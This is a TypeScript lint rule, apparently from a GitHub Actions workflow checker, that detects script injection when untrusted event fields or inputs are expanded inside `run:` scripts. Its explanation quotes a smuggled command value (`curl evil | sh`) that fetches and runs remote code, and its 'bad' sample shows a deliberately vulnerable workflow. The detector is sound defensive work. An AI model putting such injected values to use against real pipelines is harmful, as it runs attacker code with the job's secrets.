// `${{ }}` pasted into a script: the value becomes code before the shell sees it.
import {
  actionName,
  contextReferences,
  scanExpressions,
  type SourceInput,
  type SourceStep,
  type YNode,
} from '@tokenless/workflow'
import type { Rule } from '../rule.js'

/** Event fields that are numbers, ids, hashes, booleans or fixed words: they cannot carry a command. */
const SAFE_EVENT_FIELD =
  /\.(number|id|node_id|\w+_id|sha|\w+_sha|after|before|draft|merged|private|fork|size|\w+_count|additions|deletions|changed_files|run_attempt|run_number|created_at|updated_at|prerelease|forced|deleted|created|conclusion|status|action|login)$/
const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment'])
/** GitHub login names are [A-Za-z0-9-] only: `github.actor`, `*.user.login` cannot carry a command. */
const LOGIN_FIELDS = new Set(['github.actor', 'github.triggering_actor', 'github.repository_owner'])
/** Event fields that only maintainers can write: the base branch of a pull request is one of ours. */
const MAINTAINER_FIELDS = new Set(['github.event.pull_request.base.ref', 'github.base_ref'])

/** The events whose payload has each top-level field: elsewhere the field is always empty. */
const PAYLOAD_EVENTS: Record<string, string[]> = {
  release: ['release'],
  pull_request: [
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
  ],
  issue: ['issues', 'issue_comment'],
  comment: ['issue_comment', 'commit_comment', 'pull_request_review_comment', 'discussion_comment'],
  review: ['pull_request_review'],
  head_commit: ['push'],
  commits: ['push'],
  workflow_run: ['workflow_run'],
  discussion: ['discussion', 'discussion_comment'],
}

/** What a `run:` can read: the inputs its workflow declares, and the events that start it. */
interface Scope {
  inputs: SourceInput[]
  /** The workflow's triggers; undefined for a composite action (any caller's event and inputs). */
  events: Map<string, unknown> | undefined
}

function dangerous(path: string, scope: Scope): boolean {
  const { inputs, events } = scope
  const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(path)?.[1]
  if (input !== undefined) {
    const declared = inputs.find((each) => each.name === input)
    // GitHub refuses to start a workflow with an input it does not declare: it is always empty.
    if (!declared && events && (events.has('workflow_dispatch') || events.has('workflow_call')))
      return false
    return !declared?.type || !SAFE_INPUT_TYPES.has(declared.type)
  }
  if (path === 'inputs' || path === 'github.event' || path === 'github.event.inputs') return true
  if (path === 'github.head_ref') return true
  if (LOGIN_FIELDS.has(path)) return false
  if (!path.startsWith('github.event.') || MAINTAINER_FIELDS.has(path)) return false
  const root = path.split('.')[2]!
  const from = PAYLOAD_EVENTS[root]
  // A reusable workflow sees its caller's event, whatever its own `on:` says.
  if (from && events && events.size > 0 && !events.has('workflow_call'))
    if (!from.some((event) => events.has(event))) return false
  return root === 'client_payload' || !SAFE_EVENT_FIELD.test(path)
}

function envName(path: string): string {
  const last = path.split('.').pop() ?? 'value'
  const name = last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase()
  return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`
}

export const scriptInjection: Rule = {
  id: 'script-injection',
  severity: 'error',
  title:
    '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expanded inside `run:` (script injection).',
  why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code.',
  fix: 'Pass the value through `env:` (`env: TITLE: ${{ github.event.release.name }}`) and use `"$TITLE"` in the script.',
  bad: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing \${{ inputs.version }}"
`,
  good: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing $VERSION"
        env:
          VERSION: \${{ inputs.version }}
`,
  check({ repository, report }) {
    const steps: { step: SourceStep; scope: Scope; where: string }[] = []
    for (const workflow of repository.workflows)
      for (const job of workflow.jobs)
        for (const step of job.steps)
          if (!step.via)
            steps.push({
              step,
              scope: { inputs: workflow.inputs, events: workflow.events },
              where: `job "${job.id}"`,
            })
    for (const action of repository.actions)
      for (const step of action.steps)
        steps.push({
          step,
          scope: { inputs: [], events: undefined },
          where: `composite action ${action.ref}`,
        })

    for (const { step, scope, where } of steps) {
      const targets: [YNode, string][] = []
      if (step.runNode && step.run) targets.push([step.runNode, 'the shell script'])
      if (actionName(step.uses) === 'actions/github-script') {
        const script = step.with?.get('script')
        if (script?.str()) targets.push([script, 'the github-script code'])
      }
      for (const [node, what] of targets) {
        const text = node.str() ?? ''
        const seen = new Set<string>()
        for (const { expression, start, end } of scanExpressions(text).found) {
          const span = { text: text.slice(start, end) }
          const path = contextReferences(expression, 'expression').find((each) =>
            dangerous(each, scope),
          )
          if (!path || seen.has(span.text)) continue
          seen.add(span.text)
          const name = envName(path)
          report(
            node,
            `\`${span.text}\` is pasted into ${what} of ${where} before it runs: whoever controls ${path} (${describe(path)}) can run their own commands there, with the job's token and secrets.`,
            {
              needle: span.text,
              fix: `Pass it through the step's \`env:\` (\`${name}: ${span.text}\`) and use \`"$${name}"\`${what === 'the shell script' ? '' : ' (process.env.' + name + ')'} instead.`,
            },
          )
        }
      }
    }
  },
}

function describe(path: string): string {
  if (path === 'github.head_ref') return 'the branch name of a pull request'
  if (/inputs/.test(path)) return 'whoever starts the workflow or calls it types it'
  if (/title|body|message|name|label|ref|tag_name|email|description|comment|review|head/.test(path))
    return 'text anyone opening an issue, a pull request, a branch or a release can write'
  return 'a value of the triggering event'
}
